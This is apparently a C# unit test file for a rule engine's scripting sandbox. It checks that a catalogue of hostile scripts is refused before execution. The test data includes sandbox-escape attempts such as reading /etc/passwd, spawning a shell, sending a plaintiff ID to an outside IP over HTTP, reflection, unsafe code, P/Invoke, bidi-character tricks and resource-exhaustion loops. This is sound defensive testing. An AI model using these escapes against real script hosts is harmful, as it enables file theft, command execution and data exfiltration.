using RuleEngine.Diagnostics;
using RuleEngine.Scripting.Tests.Support;

namespace RuleEngine.Scripting.Tests;

/// <summary>
/// The C-series of docs/hostile-inputs (the shared catalogue): each hostile script is refused before anything of it
/// runs, with a code and the location of the offending code.
/// </summary>
public sealed class GateTests
{
    public static TheoryData<string, string, string> HostileScripts => new()
    {
        { "C01 file read", "return System.IO.File.Exists(\"/etc/passwd\");", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C02 process", "System.Diagnostics.Process.Start(\"sh\", \"-c id\"); return true;", "CS0234" },
        { "C03 network", "new System.Net.Http.HttpClient().GetStringAsync(\"http://10.0.0.1/?d=\" + r.PlaintiffId); return true;", "CS0234" },
        { "C04 reflection through Type", "typeof(int).Assembly.GetType(\"System.IO.File\")!.GetMethod(\"Exists\")!.Invoke(null, new object[] { \"x\" }); return true;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C05 GetType", "return r.PlaintiffName!.GetType().GetProperty(\"Length\")!.GetValue(r.PlaintiffName) is not null;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C06 Activator", "return Activator.CreateInstance(Type.GetType(\"System.Text.StringBuilder\")!) is not null;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C07 dynamic", "dynamic d = r; return d.Secret == 1;", ScriptDiagnosticIds.DynamicCodeNotAllowed },
        { "C08 expression trees", "System.Linq.Expressions.Expression<Func<bool>> e = () => true; return e.Compile()();", "CS0234" },
        { "C09 emitted code", "var m = new System.Reflection.Emit.DynamicMethod(\"x\", typeof(void), null); return true;", ScriptDiagnosticIds.DynamicCodeNotAllowed },
        { "C10 unsafe block", "unsafe { int x = 1; int* p = &x; return *p == 1; }", ScriptDiagnosticIds.UnsafeCodeNotAllowed },
        { "C11 Unsafe.As", "object o = r.Cause!; return System.Runtime.CompilerServices.Unsafe.As<object, string[]>(ref o).Length > 0;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C12 P/Invoke", "[System.Runtime.InteropServices.DllImport(\"libc\")] static extern int getpid(); return getpid() > 0;", ScriptDiagnosticIds.UnsafeCodeNotAllowed },
        { "C13 stackalloc", "int G() { Span<byte> s = stackalloc byte[200_000_000]; return s.Length; } return G() > 0;", ScriptDiagnosticIds.UnsafeCodeNotAllowed },
        { "C14 explicit layout", "[System.Runtime.InteropServices.StructLayout(System.Runtime.InteropServices.LayoutKind.Explicit)] struct U { [System.Runtime.InteropServices.FieldOffset(0)] public object O; [System.Runtime.InteropServices.FieldOffset(0)] public long L; } return true;", ScriptDiagnosticIds.DeclarationNotAllowed },
        { "C15 module initializer", "static class E { [System.Runtime.CompilerServices.ModuleInitializer] internal static void I() { } } return true;", ScriptDiagnosticIds.DeclarationNotAllowed },
        { "C16 static constructor", "class K { static K() { } } return true;", ScriptDiagnosticIds.DeclarationNotAllowed },
        { "C17 finalizer", "class F { ~F() { throw new Exception(); } } return true;", ScriptDiagnosticIds.DeclarationNotAllowed },
        { "C18 #r", "#r \"evil.dll\"\nreturn true;", ScriptDiagnosticIds.DirectiveNotAllowed },
        { "C18 #r nuget", "#r \"nuget: Evil, 1.0.0\"\nreturn true;", ScriptDiagnosticIds.DirectiveNotAllowed },
        { "C19 #load", "#load \"/etc/passwd\"\nreturn true;", ScriptDiagnosticIds.DirectiveNotAllowed },
        { "C20 AppContext", "AppContext.SetSwitch(\"System.Globalization.Invariant\", true); return true;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C21 culture", "System.Globalization.CultureInfo.DefaultThreadCurrentCulture = new(\"tr-TR\"); return true;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C22 exit", "Environment.Exit(0); return true;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C22 fail fast", "Environment.FailFast(\"x\"); return true;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C23 task", "System.Threading.Tasks.Task.Run(() => { while (true) { } }); return true;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C24 thread", "new System.Threading.Thread(() => throw new Exception()).Start(); return true;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C25 lock", "lock (r.Cause!) { } return true;", ScriptDiagnosticIds.FeatureNotAllowed },
        { "C28 deep nesting", "return " + new string('(', 10_000) + "true" + new string(')', 10_000) + ";", ScriptDiagnosticIds.ScriptTooLarge },
        { "C29 huge string", "return new string('a', int.MaxValue).Length > 0;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C30 unbounded sequence", "return Enumerable.Range(0, int.MaxValue).ToList().Count > 0;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C31 backtracking regex", "return System.Text.RegularExpressions.Regex.IsMatch(new string('a', 30) + \"!\", \"^(a+)+$\");", "CS0234" },
        { "C32 bidi controls", "var ok = \"\u202E }\u2066if (r.Admin)\u2069 \u2066\"; return true;", ScriptDiagnosticIds.ForbiddenCharacter },
        { "C35 using alias", "using F = System.IO.File;\nreturn F.Exists(\"x\");", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C36 using static", "using static System.IO.File;\nreturn Exists(\"x\");", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C37 escaped identifier", "return System.IO.\\u0046ile.Exists(\"x\");", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C38 shadowing System.Object", "namespace System { class Object { } }\nreturn true;", ScriptDiagnosticIds.DeclarationNotAllowed },
        { "C38 reserved name", "int __reGuard = 1; return __reGuard == 1;", ScriptDiagnosticIds.ReservedName },
        { "C38 generated entry point", "return ScriptRule.Run(new object());", ScriptDiagnosticIds.ReservedName },
        { "C39 denied generic argument", "var l = new List<System.IO.FileInfo>(); return l.Count == 0;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C40 query syntax", "return (from d in r.Defendants!.Value.ToString().Split(';') where d.Length > 1 select d).Any();", ScriptDiagnosticIds.FeatureNotAllowed },
        { "C41 service provider", "var svc = (IServiceProvider)(object)r; return svc != null;", "CS0246" },
        { "C42 record is read-only", "r.Cause = \"guilty\"; return false;", "CS0200" },
        { "C43 static state", "static int n; return ++n % 2 == 0;", ScriptDiagnosticIds.StaticStateNotAllowed },
        { "C44 clock", "return DateTime.Now.Hour > 12;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C44 unseeded random", "return new Random().Next() > 5;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "C45 source too large", "return true;" + new string(' ', 11 * 1024 * 1024), ScriptDiagnosticIds.ScriptTooLarge },
        { "global using", "global using System.IO;\nreturn true;", ScriptDiagnosticIds.DirectiveNotAllowed },
        { "async lambda", "Func<System.Threading.Tasks.Task> f = async () => { }; return true;", ScriptDiagnosticIds.FeatureNotAllowed },
        { "goto", "int i = 0; again: i++; if (i < 3) goto again; return true;", ScriptDiagnosticIds.FeatureNotAllowed },
        { "unchecked", "return unchecked(int.MaxValue + (r.Months ?? 0)) < 0;", ScriptDiagnosticIds.FeatureNotAllowed },
        { "iterator", "IEnumerable<int> G() { yield return 1; } return G().Any();", ScriptDiagnosticIds.FeatureNotAllowed },
        { "using statement", "using (var e = new List<int>().GetEnumerator()) { } return true;", ScriptDiagnosticIds.FeatureNotAllowed },
        { "Console", "Console.WriteLine(r.PlaintiffId); return true;", "CS0103" },
        { "GC", "GC.Collect(); return true;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "delegate reflection", "Func<string?, bool> f = Id.IsValid; return f.Method.Name.Length > 0;", ScriptDiagnosticIds.SymbolNotAllowed },
        { "exception reflection", "try { throw new Exception(); } catch (Exception e) { return e.TargetSite is null; }", ScriptDiagnosticIds.SymbolNotAllowed },
        { "catastrophic regex literal", "return Text.Matches(r.Facts, @\"(a)\\1\");", ScriptDiagnosticIds.InvalidRegex },
    };

    [Theory]
    [MemberData(nameof(HostileScripts))]
    public void Hostile_script_is_refused_before_it_runs(string name, string script, string code)
    {
        Diagnostic diagnostic = Scripts.Rejected(script, code);
        Assert.False(string.IsNullOrWhiteSpace(diagnostic.Message), name);
        Assert.True(diagnostic.Location.IsKnown, $"{name}: {diagnostic}");
    }

    [Fact]
    public void Each_denied_call_is_reported_once_where_it_is_made()
    {
        (ScriptCondition? condition, List<RuleEngine.Diagnostics.Diagnostic> diagnostics) = Scripts.Compile("var l = new List<string> { \"a\" }; var m = l.Concat(l); var n = l.Concat(m); return n.Any();");

        Assert.Null(condition);
        Assert.Equal(2, diagnostics.Count(d => d.Id == ScriptDiagnosticIds.SymbolNotAllowed));
    }

    [Fact]
    public void Refusal_names_the_symbol_and_points_at_its_column()
    {
        Diagnostic diagnostic = Scripts.Rejected("var ok = true;\nreturn ok && System.IO.File.Exists(\"x\");", ScriptDiagnosticIds.SymbolNotAllowed);

        Assert.Contains("File.Exists", diagnostic.Message, StringComparison.Ordinal);
        Assert.Equal(2, diagnostic.Location.Line);
        Assert.Equal(14, diagnostic.Location.Column);
        Assert.Equal("Scripts read the record only: no files.", diagnostic.Hint);
    }

    [Fact]
    public void A_denied_member_carries_the_reason_from_the_allow_list()
    {
        Diagnostic diagnostic = Scripts.Rejected("return DateTime.Now > new DateTime(2024, 1, 1);", ScriptDiagnosticIds.SymbolNotAllowed);

        Assert.Contains("no clock", diagnostic.Hint, StringComparison.Ordinal);
    }

    [Fact]
    public void Compiler_errors_keep_their_ids_and_suggest_the_field_meant()
    {
        Diagnostic diagnostic = Scripts.Rejected("r.Amout > 5m", "CS1061");

        Assert.Equal("Did you mean 'r.Amount'?", diagnostic.Hint);
        Assert.Equal((1, 3), (diagnostic.Location.Line, diagnostic.Location.Column));
    }

    [Fact]
    public void Scripts_using_only_allowed_code_compile()
    {
        const string script = """
            // A professional lender: many suits, text analysis of the facts, a table of thresholds.
            var limits = new Dictionary<string, decimal> { ["民间借贷纠纷"] = 50_000m, ["金融借款合同纠纷"] = 200_000m };
            if (r.Cause is null || !limits.TryGetValue(r.Cause, out decimal limit)) return false;
            int mentions = 0;
            foreach (string word in new[] { "利息", "借条", "转账" })
            {
                mentions += Text.Count(r.Facts, word);
            }

            var defendants = r.Defendants?.Count ?? 0;
            bool young = Id.AgeAt(r.PlaintiffId, r.FilingDate) is < 25;
            string summary = $"{r.CaseNo}: {mentions}";
            var (a, b) = (1, 2);
            return r.Amount >= limit && mentions >= 2 && defendants > 0 && !young && summary.Length > a + b
                && CaseNo.Kind(r.CaseNo) == "民初" && Dates.DaysBetween(r.FilingDate, new DateOnly(2025, 1, 1)) > 0
                && new List<int> { 1, 2, 3 }.Where(x => x > 1).Sum() == 5 && Math.Max(1, 2) == 2;
            """;

        (ScriptCondition? condition, List<Diagnostic> diagnostics) = Scripts.Compile(script);

        Assert.True(condition is not null, string.Join(Environment.NewLine, diagnostics));
        Assert.Equal(["case_no", "cause", "plaintiff_id", "amount", "filing_date", "facts", "defendants"], condition.FieldsRead);
    }

    [Fact]
    public void C45_a_script_the_compiler_takes_too_long_over_is_refused()
    {
        var impatient = new ScriptRuleCompiler(new ScriptLimits { CompileTimeout = TimeSpan.FromTicks(1) });

        (ScriptCondition? condition, List<Diagnostic> diagnostics) = Scripts.Compile("var x = new List<int> { 1, 2, 3 }.Where(i => i > 1).Select(i => i * 2).Sum(); return x > 0;", compiler: impatient);

        Assert.Null(condition);
        Assert.Equal(ScriptDiagnosticIds.CompileTimeout, Assert.Single(diagnostics).Id);
    }
}
